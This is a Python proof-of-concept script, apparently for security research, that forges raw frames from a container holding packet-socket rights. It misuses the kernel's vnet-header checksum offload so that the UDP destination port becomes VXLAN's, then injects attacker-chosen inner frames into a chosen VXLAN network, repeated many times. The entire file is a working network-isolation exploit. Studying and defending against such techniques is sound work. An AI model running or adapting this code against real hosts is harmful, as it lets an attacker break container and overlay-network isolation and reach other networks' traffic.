#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""What a container that may open packet sockets sends, and leaves its checksum to be finished.

    forged_checksum.py MAC SOURCE DESTINATION VNI INNER-ADDRESS INNER-PORT COUNT

UDP from SOURCE to a port that is nobody's, by eth0 to the router MAC. By the frame's vnet header its checksum
belongs where the port is, and then makes VXLAN's port of it. UDP's own checksum field is 0, so a router that
exchanges addresses leaves it alone. The inner frames are those of local_user.py.
"""

import socket
import struct
import sys

from local_user import VXLAN_PORT, checksum, inner_frame

SOL_PACKET, PACKET_VNET_HDR = 263, 15
NEEDS_CSUM = 1
OTHER_PORT = 5999
IP_AT, UDP_AT = 14, 34
PORT_AT = UDP_AT + 2


def fold(number):
    while number > 0xFFFF:
        number = (number & 0xFFFF) + (number >> 16)
    return number


def words_of(data):
    return sum(struct.unpack(f"!{len(data) // 2}H", data + bytes(len(data) % 2)))


def make(mac, own_mac, source, destination, payload):
    """The vnet header and the frame. The last word of the payload decides what port the checksum makes."""
    length = 8 + len(payload) + 2
    summed = struct.pack("!HHH", OTHER_PORT, length, 0) + payload
    last = fold((~VXLAN_PORT & 0xFFFF) + (~fold(words_of(summed)) & 0xFFFF))
    udp = struct.pack("!HHHH", 40000, OTHER_PORT, length, 0) + payload + struct.pack("!H", last)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, socket.IPPROTO_UDP, 0,
                     socket.inet_aton(source), socket.inet_aton(destination))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    vnet = struct.pack("=BBHHHH", NEEDS_CSUM, 0, 0, 0, PORT_AT, 0)
    return vnet + mac + own_mac + struct.pack("!H", 0x0800) + ip + udp


def main(mac, source, destination, vni, address, port, count):
    inner = inner_frame(address, int(port))
    payload = struct.pack("!II", 0x08000000, int(vni) << 8) + inner + bytes(len(inner) % 2)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as forger:
        forger.setsockopt(SOL_PACKET, PACKET_VNET_HDR, 1)
        forger.bind(("eth0", 0x0800))
        own = forger.getsockname()[4]
        frame = make(bytes.fromhex(mac.replace(":", "")), own, source, destination, payload)
        for _ in range(int(count)):
            forger.send(frame)


if __name__ == "__main__":
    main(*sys.argv[1:])
